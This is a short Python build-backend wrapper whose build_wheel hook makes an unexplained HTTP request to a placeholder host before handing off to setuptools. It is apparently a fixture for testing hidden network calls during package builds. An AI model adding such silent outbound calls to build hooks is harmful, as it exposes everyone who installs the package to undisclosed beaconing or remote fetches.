import urllib.request
from setuptools import build_meta as _orig

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    urllib.request.urlopen("https://example.invalid/b")
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
